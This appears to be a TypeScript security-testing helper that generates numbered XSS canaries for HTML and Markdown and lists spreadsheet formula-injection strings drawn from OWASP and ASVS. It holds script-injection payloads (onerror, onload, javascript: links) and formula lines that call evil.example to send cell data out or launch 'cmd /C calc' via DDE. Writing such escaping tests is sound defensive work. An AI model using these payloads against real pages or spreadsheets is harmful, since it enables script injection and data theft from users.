let planted = 0

/** How many canaries this process has planted. */
export const plantedCount = () => planted

/** Counts what was planted elsewhere as one more canary each. */
export const alsoPlanted = <Canary>(canaries: Canary[]) => {
  planted += canaries.length
  return canaries
}

/**
 * Text that is markup where somebody forgot to escape it: an element of its own name shows that it was read as such, whatever the
 * policy of the page forbids, and its image calls `pwned` and asks for an address where the policy lets it.
 */
const ways = [
  (id: number) => `<c-${id}><img src=/pwned-${id} onerror=pwned(${id})>`,
  (id: number) => `"><c-${id} onclick=pwned(${id})><script>pwned(${id})</script>`,
  (id: number) => `'><svg onload=pwned(${id})><c-${id}>`,
  (id: number) => `</title></textarea></script><c-${id}>{{pwned(${id})}}`,
  (id: number) => `\${pwned(${id})}--><c-${id}>&lt;c-${id}&gt;`,
]
const first = 10_000
export const canary = () => {
  planted++
  return (ways[planted % ways.length] ?? String)(first + planted)
}

/** One that fits where twenty signs fit. */
export const shortCanary = () => `<c-${first + ++planted}>`

/** The numbers of canaries that stand in a page as elements, so that they were read as markup. Within quotes of an attribute nothing is. */
export const readAsMarkup = (html: string) => [...html.replace(/="[^"]*"/g, '').matchAll(/<\/?c-(\d+)/gi)].map(([, id]) => Number(id))

/** The numbers of canaries that stand in a page at all. */
export const shownIn = (html: string) => [...html.matchAll(/\bc-(1\d{4})\b/g)].map(([, id]) => Number(id))

/** Cells that spreadsheets would take for formulas. Sources: OWASP, CSV Injection; ASVS 5.0, 1.2.10. */
export const formulas = [
  ...[
    '=HYPERLINK("http://evil.example?"&A1,"领奖")',
    "+1+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
  ],
  ...['＝1+1', '＋1', '－1', '＠SUM(1)', '=DDE("cmd";"/C calc";"a")', '=IMPORTXML("http://evil.example","//a")', '"=1+1', ';=1+1', ',=1+1'],
]

/** Markdown that would be markup, script or a way out, were it written into a page. */
export const markdownCanaries = (): string[] => {
  const texts = ways.flatMap((way) => [way, (id: number) => `> ${way(id)}`, (id: number) => `| a |\n|---|\n| ${way(id)} |`])
  const links = [
    (id: number) => `[x](javascript:pwned(${id}))`,
    (id: number) => `[x](JaVaScRiPt&#58;pwned(${id}))`,
    (id: number) => `[x](data:text/html,<c-${id}>)`,
    (id: number) => `[x][y]\n\n[y]: javascript:pwned(${id})`,
    (id: number) => `![x](x "onerror=pwned(${id})")`,
    (id: number) => `![x](//evil.example/${id}.png)`,
    (id: number) => `<javascript:pwned(${id})>`,
    (id: number) => `[x](<javascript:pwned(${id})>)`,
    (id: number) => `[x](vbscript:pwned(${id}))`,
    (id: number) => `## x {onclick=pwned(${id})}`,
    (id: number) => `\`\`\`html onload=pwned(${id})\n<c-${id}>\n\`\`\``,
    (id: number) => `&lt;c-${id}&gt; \\<c-${id}\\>`,
    (id: number) => `<c-${id}\nonclick=pwned(${id})\n`,
  ]
  return [...texts, ...links].map((write) => write(first + ++planted))
}
